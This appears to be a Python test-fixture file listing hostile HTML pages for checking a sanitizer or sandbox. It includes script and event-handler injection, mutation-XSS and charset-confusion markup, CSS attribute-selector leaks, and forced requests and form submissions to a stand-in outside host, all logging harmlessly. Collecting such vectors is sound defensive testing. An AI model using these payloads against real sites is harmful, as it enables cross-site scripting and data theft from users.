"""What a hostile page may try: to run a script, or to make the reader's browser ask somebody outside.

Every script says `RAN` and its name on the console. OUT stands for a server outside that counts whoever connects.
"""

OUT = "http://outside.example"
PAGES: dict[str, str] = {
    # Scripts
    "script": "<script>console.log('RAN script')</script><script src=/evil.js></script><script type=module src=/evil.js></script>",
    "handlers": "<img src=x onerror=\"console.log('RAN onerror')\"><body onload=\"console.log('RAN onload')\">"
    "<input autofocus onfocus=\"console.log('RAN onfocus')\"><details open ontoggle=\"console.log('RAN ontoggle')\">"
    "<style>@keyframes x{}</style><p style='animation:x 1ms' onanimationstart=\"console.log('RAN animation')\">",
    "odd-handlers": "<img src=x a='>'onerror=console.log('RAN&#32;odd')><svg/onload=console.log('RAN-svg')>"
    "<img src=x ONERROR\n=\n\"console.log('RAN newline')\"><img/src=x/onerror=console.log('RAN-slash')>"
    "<img src=x =\"\" onerror=\"console.log('RAN equals')\"><img src='x'onerror=\"console.log('RAN glued')\">",
    "javascript-urls": "<a id=link href=\"java&Tab;script:console.log('RAN href')\">click</a>"
    "<iframe src=\"&#1;javascript:console.log('RAN frame')\"></iframe><object data=\"javascript:console.log('RAN o')\"></object>"
    "<embed src=\"javascript:console.log('RAN embed')\"><form action=\"javascript:console.log('RAN form')\"><button>b</button></form>",
    "svg": "<svg><script>console.log('RAN svg')</script><script href=/evil.js /><a xlink:href=\"javascript:console.log('RAN a')\">"
    "<set attributeName=href to=\"javascript:console.log('RAN set')\"/><text y=20>click</text></a>"
    "<animate onbegin=\"console.log('RAN begin')\" attributeName=x dur=1s><use href=/evil.svg#x></use></svg>",
    "svg-documents": "<iframe src=/evil.svg></iframe><object data=/evil.svg type=image/svg+xml></object><embed src=/evil.svg>"
    "<img src=/evil.svg>",
    "srcdoc": "<iframe srcdoc=\"<script>console.log('RAN srcdoc')</script><img src=OUT/srcdoc>\"></iframe>"
    "<iframe sandbox='allow-scripts allow-same-origin' srcdoc=\"&lt;script>parent.console.log('RAN s2')&lt;/script>\"></iframe>",
    "data-documents": "<iframe src=\"data:text/html,<script>console.log('RAN data')</script><img src=OUT/data>\"></iframe>"
    "<object data=\"data:text/html,<script>console.log('RAN odata')</script>\"></object>"
    "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>console.log('RAN edata')</script></svg>\">",
    "service-worker": "<script>navigator.serviceWorker.register('/sw.js').then(()=>console.log('RAN worker'));"
    "new Worker('/sw.js'); console.log('RAN worker')</script>",
    "webrtc": "<script>new RTCPeerConnection({iceServers:[{urls:'stun:outside.example'}]}).createDataChannel('x');"
    "console.log('RAN rtc')</script>",
    "import-map": '<script type=importmap>{"imports":{"x":"OUT/map.js"}}</script><script type=module>import "x"</script>'
    '<script type=speculationrules>{"prefetch":[{"urls":["OUT/rules"]}]}</script><link rel=modulepreload href=OUT/module.js>',
    # Markup that is read in two ways
    "mxss": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=console.log('RAN-m1')&gt;\">"
    "</style></table></mtext></math><svg></p><style><a id=\"</style><img src=1 onerror=console.log('RAN-m2')>\"></svg>"
    "<noscript><p title=\"</noscript><img src=x onerror=console.log('RAN-m3')>\"></noscript>"
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=console.log('RAN-m4')>",
    "glued": "<<script>script>console.log('RAN glued')</<b>script><<!-- -->img src=x onerror=console.log('RAN-g2')>"
    "<scr\x00ipt>console.log('RAN nul')</script><img src=x on\x00error=console.log('RAN-nul2')>",
    "comments": "<!--><script>console.log('RAN c1')</script>--><!--[if IE]><script>console.log('RAN c2')</script><![endif]-->"
    "<!--x--!><img src=x onerror=\"console.log('RAN c3')\"><![CDATA[><img src=x onerror=\"console.log('RAN c4')\">]]>"
    "<svg><![CDATA[<img src=x onerror=\"console.log('RAN c5')\">]]></svg>",
    "raw-text": "<textarea></textarea ><img src=x onerror=\"console.log('RAN r1')\"><title><img src=x onerror=\"console.log('RAN r2')\">"
    "</title><xmp></xmp><img src=x onerror=\"console.log('RAN r3')\"><noembed><img src=\"</noembed><svg onload=console.log('RAN-r4')>\">"
    "<iframe><img src=\"</iframe><svg onload=console.log('RAN-r5')>\"><select><style></select><svg onload=console.log('RAN-r6')></style>",
    "nested-script": "<script><!--<script></script>--></script><img src=x onerror=\"console.log('RAN n1')\">"
    "<script><!--></script><svg onload=\"console.log('RAN n2')\">",
    # Requests outside
    "refresh": "<meta http-equiv=refresh content='0;url=OUT/refresh'>",
    "refresh-data": "<META HTTP-EQUIV='Refresh' CONTENT=\"0; URL='javascript:console.log(1)'\"><meta http-equiv=set-cookie content=a=b>",
    "base": "<base href=OUT/base/ target=_top><img src=relative.png><link rel=stylesheet href=relative.css>",
    "styles": "<style>@import 'OUT/import.css';@import url(OUT/import2.css);@font-face{font-family:f;src:url(OUT/font.woff)}"
    "body{background:url(OUT/bg.png);font-family:f}p{background:u\\72l(OUT/escaped.png);content:image-set('OUT/set.png' 1x)}"
    "input[value^=a]{background:url(OUT/leak?a)}</style><p style='background:url(OUT/attribute.png);list-style:url(\"OUT/l.png\")'>x"
    "<input value=abc><link rel=stylesheet href=/evil.css><link rel=stylesheet href=OUT/outside.css>",
    "styles-escaped": "<style>@\\69mport 'OUT/escaped.css';body{background:u\\72l(OUT/escaped1.png)}"
    "div{background:\\75\\000072 \\6C(OUT/escaped2.png)}p{background:\\u\\rl(OUT/escaped3.png)}"
    "h1{background:image-s\\65t('OUT/escaped4.png' 1x)}</style><div>d</div><p>p</p><h1>h</h1>"
    "<b style='background:u\\72l(OUT/escaped5.png)'>b</b><i style='background:u&#92;72l(OUT/escaped6.png)'>i</i>",
    "styles-self-closed": "<svg><p><style/>body{background:url(OUT/closed1.png)}</style>"
    "<svg><p><style />@import 'OUT/closed2.css';</style>",
    "styles-in-svg": "<svg><style>@&#105;mport 'OUT/svg-import.css';</style><style>body{background:&#117;rl(OUT/svg-bg.png)}</style></svg>"
    "<svg><foreignObject></svg></foreignObject><style>@&#x69;mport 'OUT/svg-import2.css';</style></svg>"
    "<math><style>@&#105;mport 'OUT/math-import.css';</style></math>",
    "links": "<link rel=preconnect href=OUT><link rel=dns-prefetch href=OUT><a href=OUT/anchor>x</a><link rel=prefetch href=OUT/prefetch><link rel=prerender href=OUT/prerender><link rel=manifest href=OUT/manifest>"
    "<link rel=preload as=image href=OUT/preload.png><link rel=icon href=OUT/icon.png><link rel=import href=OUT/import.html>",
    "images": "<img src=OUT/a.png srcset='OUT/b.png 1x, OUT/c.png 2x'><picture><source srcset=OUT/d.png><img src=OUT/e.png></picture>"
    "<input type=image src=OUT/f.png><video src=OUT/g.mp4 poster=OUT/h.png autoplay></video><audio src=OUT/i.mp3 autoplay></audio>"
    "<video><source src=OUT/j.mp4><track src=OUT/k.vtt default></video><table background=OUT/l.png><tr><td background=OUT/m.png></table>"
    "<svg><image href=OUT/n.png /><image xlink:href=OUT/o.png /><use href=OUT/p.svg#x /><feImage href=OUT/q.png />"
    "<rect fill='url(OUT/r.svg#x)' filter='url(OUT/s.svg#y)' width=9 height=9 /></svg><img src=//outside.example/t.png>"
    "<img src='\\\\outside.example\\u.png'><img src='ht\ntp://outside.example/v.png'><img data-src=OUT/w.png src=''>",
    "frames": "<iframe src=OUT/frame></iframe><object data=OUT/object></object><embed src=OUT/embed>"
    "<portal src=OUT/portal></portal><fencedframe src=OUT/fenced></fencedframe><iframe src=about:blank></iframe>"
    "<applet code=OUT/a.class archive=OUT/a.jar></applet><bgsound src=OUT/bg.mid>",
    "top": "<script>top.location='OUT/top'</script><a href=OUT/top2 target=_top ping=OUT/ping id=leave>leave</a>"
    "<form action=OUT/form target=_top method=post><input name=a><input type=submit></form><script>document.forms[0].submit()</script>",
    "head": "<html manifest=OUT/appcache><head profile=OUT/profile><meta name=referrer content=unsafe-url>"
    '<meta http-equiv=Content-Security-Policy content="default-src *; report-uri OUT/report"><body background=OUT/body.png>',
    "template": "<div><template shadowrootmode=open><img src=OUT/shadow.png><style>@import 'OUT/shadow.css'</style>"
    "<script>console.log('RAN shadow')</script></template></div>",
}
"""By name."""

ENCODED: dict[str, tuple[str, bytes]] = {
    "utf-7": ("text/html; charset=utf-7", b"+ADw-script+AD4-console.log('RAN utf7')+ADw-/script+AD4-"),
    "utf-16": ("text/html", "\ufeff<script>console.log('RAN utf16')</script>".encode("utf-16-le")),
    "iso-2022-jp": (
        "text/html; charset=iso-2022-jp",
        b"\x1b$B<script>console.log('RAN jp')</script>\x1b(B<img src=x \x1b(Bonerror=console.log('RAN')>",
    ),
    "no-type": ("", b"<script>console.log('RAN unk')</script>"),
    "xhtml": (
        "application/xhtml+xml",
        b'<html xmlns="http://www.w3.org/1999/xhtml"><script>console.log("RAN xhtml")</script></html>',
    ),
    "xml": ("text/xml", b'<x:script xmlns:x="http://www.w3.org/1999/xhtml">console.log("RAN xml")</x:script>'),
    "plain": ("text/plain", b"<script>console.log('RAN plain')</script>"),
}
"""Type and payload of pages that say one encoding or type and mean another."""

FILES: dict[str, tuple[str, str]] = {
    "/evil.js": ("text/javascript", "console.log('RAN file')"),
    "/sw.js": ("text/javascript", "console.log('RAN sw'); fetch('OUT/sw')"),
    "/evil.css": ("text/css", "@import 'OUT/css-import.css'; body{color:red;background:url(OUT/css-bg.png)}"),
    "/evil.svg": (
        "image/svg+xml",
        "<svg xmlns='http://www.w3.org/2000/svg' onload=\"console.log('RAN svg file')\"><script>console.log('RAN svg file 2')</script>"
        "<script href='/evil.js'/><image href='OUT/svg.png' width='9' height='9'/><g id='x'><rect width='9' height='9'/></g></svg>",
    ),
}
"""What those pages load from their own site."""
